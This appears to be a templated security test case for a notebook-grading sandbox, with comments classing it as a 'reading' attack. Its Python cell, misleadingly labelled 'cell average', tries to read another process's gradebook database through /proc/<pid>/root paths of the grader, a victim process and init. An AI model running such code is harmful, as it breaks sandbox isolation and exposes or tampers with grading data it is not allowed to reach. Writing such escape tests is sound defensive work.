# class: reading
# tries: reaches files through another process's root and working folder
# harm: reads
# %% cell average
import glob
for way in ["/proc/@GRADER@/root", "/proc/@VICTIM@/root", "/proc/1/root", "/proc/self/root"]:
    try:
        print(open(way + "@COURSE@/gradebook.db").read())
    except OSError:
        pass
